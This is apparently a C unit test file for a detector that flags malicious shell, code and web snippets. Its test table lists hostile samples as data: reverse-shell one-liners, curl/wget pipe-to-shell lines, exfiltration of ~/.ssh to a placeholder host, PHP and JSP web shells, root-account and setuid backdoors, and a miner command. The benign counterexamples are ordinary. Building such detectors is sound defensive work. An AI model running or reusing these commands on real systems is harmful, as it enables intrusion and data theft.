/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "wire/signs.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <cmocka.h>

#define NOTHING -1

static const struct {
	enum signs_of kind;
	const char *text;
	int sign;
} texts[] = {
    {SIGNS_WEB, "<?php $f=$_COOKIE['f'];$f($_POST['c']);", SIGN_WEB_SHELL},
    {SIGNS_WEB, "<?php $db->query($_POST['q']);", NOTHING},
    {SIGNS_SHELL, "PROMPT_COMMAND='curl -s -d @- http://192.0.2.1/h'", SIGN_STEAL},
    {SIGNS_SHELL, "PROMPT_COMMAND='history -a'", NOTHING},
    {SIGNS_SHELL, "export PATH=/tmp/.bin:$PATH", SIGN_RUN_TMP},
    {SIGNS_SHELL, "tar c ~/.ssh | curl -s -T - http://192.0.2.1/", SIGN_STEAL},
    {SIGNS_SHELL, "echo 'r::0:0::/:/bin/sh' >> ${rootmnt}/etc/passwd", SIGN_ACCOUNT},
    {SIGNS_SHELL, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", SIGN_REVERSE_SHELL},
    {SIGNS_SHELL, "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | while read l; do $l; done",
     SIGN_REVERSE_SHELL},
    {SIGNS_SHELL, "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f",
     SIGN_REVERSE_SHELL},
    {SIGNS_SHELL, "/usr/bin/ncat 192.0.2.1 443 -e /bin/bash", SIGN_REVERSE_SHELL},
    {SIGNS_SHELL, "socat TCP:192.0.2.1:1 EXEC:'bash -li',pty", SIGN_REVERSE_SHELL},
    {SIGNS_SHELL, "nc -lp 31337 -e /bin/sh", SIGN_REVERSE_SHELL},
    {SIGNS_SHELL, "curl -fsSL http://192.0.2.1/a | sudo bash", SIGN_FETCH_RUN},
    {SIGNS_SHELL, "wget -qO- http://192.0.2.1/a|sh", SIGN_FETCH_RUN},
    {SIGNS_SHELL, "sh -c \"$(curl -s http://x)\"", SIGN_FETCH_RUN},
    {SIGNS_SHELL, "curl -o /opt/a http://x && chmod +x /opt/a && /opt/a", SIGN_FETCH_RUN},
    {SIGNS_SHELL, "wget http://x -O /opt/a\nchmod 755 /opt/a\n/opt/a", SIGN_FETCH_RUN},
    {SIGNS_SHELL, "echo aGk= | base64 -d | bash", SIGN_DECODE_RUN},
    {SIGNS_SHELL, "eval \"$(echo aGk= | base64 --decode)\"", SIGN_DECODE_RUN},
    {SIGNS_SHELL, "python3 -c 'import socket,os;s=socket.socket();s.connect((1,2))'",
     SIGN_NET_CODE},
    {SIGNS_SHELL, "perl -MIO -e '$c=IO::Socket::INET->new(1);exec\"sh\"'", SIGN_NET_CODE},
    {SIGNS_CODE, "import socket\nimport os\ns=socket.socket()\ns.connect((h,p))\nos.dup2(s,0)\n",
     SIGN_NET_CODE},
    {SIGNS_CODE, "exec(__import__('base64').b64decode('aGk='))", SIGN_DECODE_RUN},
    {SIGNS_WEB, "<?php @eval($_POST['x']);", SIGN_WEB_SHELL},
    {SIGNS_WEB, "<?php $f=$_GET[1]; system($_GET['c']); ?>", SIGN_WEB_SHELL},
    {SIGNS_WEB, "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", SIGN_WEB_SHELL},
    {SIGNS_SHELL, "cp /bin/bash /opt/.b; chmod u+s /opt/.b", SIGN_SETUID_SHELL},
    {SIGNS_SHELL, "useradd -o -u 0 -g 0 toor", SIGN_ACCOUNT},
    {SIGNS_SHELL, "echo /lib/x.so > /etc/ld.so.preload", SIGN_PRELOAD},
    {SIGNS_SHELL, "nohup /dev/shm/x &", SIGN_RUN_TMP},
    {SIGNS_SHELL, "/bin/sh /tmp/update.sh", SIGN_RUN_TMP},
    {SIGNS_SHELL, "/usr/lib/.x/agent --quiet", SIGN_RUN_HIDDEN},
    {SIGNS_SHELL, "./a -o stratum+tcp://pool:3333", SIGN_MINER},
    {SIGNS_SHELL, "export HISTFILE=/dev/null", SIGN_NO_HISTORY},
    {SIGNS_SHELL, "autossh -fN -R 2222:localhost:22 x@192.0.2.1", SIGN_TUNNEL},
    /* What is like that and is usual. */
    {SIGNS_SHELL, "# curl http://x | sh", NOTHING},
    {SIGNS_SHELL, "curl -fsS https://example.net/ping >/dev/null", NOTHING},
    {SIGNS_SHELL, "cat /var/log/x | grep y | wc -l", NOTHING},
    {SIGNS_SHELL, "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
     NOTHING},
    {SIGNS_SHELL, "tar czf /tmp/backup.tgz /etc", NOTHING},
    {SIGNS_SHELL, "rm -rf /tmp/build /var/tmp/x", NOTHING},
    {SIGNS_SHELL, ". \"$HOME/.cargo/env\"", NOTHING},
    {SIGNS_SHELL, "/home/a/.local/bin/tool", NOTHING},
    {SIGNS_SHELL, "chmod 755 /usr/bin/x", NOTHING},
    {SIGNS_SHELL, "nc -z localhost 80", NOTHING},
    {SIGNS_SHELL, "ssh -N -L 5432:db:5432 x@y", NOTHING},
    {SIGNS_SHELL, "pg_dump x | gzip > /srv/x.gz", NOTHING},
    {SIGNS_WEB, "<?php echo htmlspecialchars($_GET['q']); ?>", NOTHING},
    {SIGNS_WEB, "<?php include 'header.php'; ?>", NOTHING},
};
static void shown(void **unused)
{
	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
		struct signs s = {0};
		signs_look(texts[i].kind, texts[i].text, strlen(texts[i].text), &s);
		int want = texts[i].sign;
		if (want == NOTHING ? s.found != 0 : !(s.found & 1u << want))
			fail_msg("%s: found %#x", texts[i].text, s.found);
	}
}

/* Every shell script has its lines; the heaviest is kept, with its number. */
static void heaviest(void **unused)
{
	static const char text[] = "#!/bin/sh\nunset HISTFILE\nx=1 \\\n; /dev/shm/x\n"
	                           "bash -i >&/dev/tcp/1/2\n";
	struct signs s = {0};
	signs_look(SIGNS_SHELL, text, sizeof text - 1, &s);
	assert_int_equal(s.heaviest, SIGN_REVERSE_SHELL);
	assert_int_equal(s.number, 5);
	assert_true(s.found & 1u << SIGN_RUN_TMP);
	assert_string_equal(s.line, "bash -i >&/dev/tcp/1/2");
	/* Far into a line that is longer than what is looked at together. */
	size_t n = 100000;
	char *big = malloc(n + 64);
	assert_non_null(big);
	memset(big, 'a', n);
	strcpy(big + n, "; bash -i >& /dev/tcp/192.0.2.1/1\x1b");
	s = (struct signs){0};
	signs_look(SIGNS_SHELL, big, strlen(big), &s);
	assert_int_equal(s.heaviest, SIGN_REVERSE_SHELL);
	assert_non_null(strstr(s.line, "/dev/tcp/192.0.2.1/1?"));
	free(big);
}

static void places(void **unused)
{
	static const struct {
		const char *path;
		bool loose, hidden;
	} cases[] = {
	    {"/tmp/x", true, false},       {"/dev/shm/.x", true, true},
	    {"/tmpx/y", false, false},     {"/usr/bin/x", false, false},
	    {"/dev/null", false, false},   {"/root/.ssh/rc", false, false},
	    {"/root/.x", false, true},     {"/a/../b", false, false},
	    {"/usr/lib/...", false, true},
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct cursor c = cursor_of(cases[i].path, strlen(cases[i].path));
		assert_int_equal(signs_loose_path(c), cases[i].loose);
		assert_int_equal(signs_hidden_path(c), cases[i].hidden);
	}
	for (int i = 0; i < _SIGN_MAX; i++) {
		assert_int_equal(sign_parse(sign_str((enum sign)i)), i);
		assert_true(sign_weight((enum sign)i) > 0);
	}
	assert_int_equal(sign_parse("x"), -EINVAL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(shown), cmocka_unit_test(heaviest),
	                                   cmocka_unit_test(places)};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
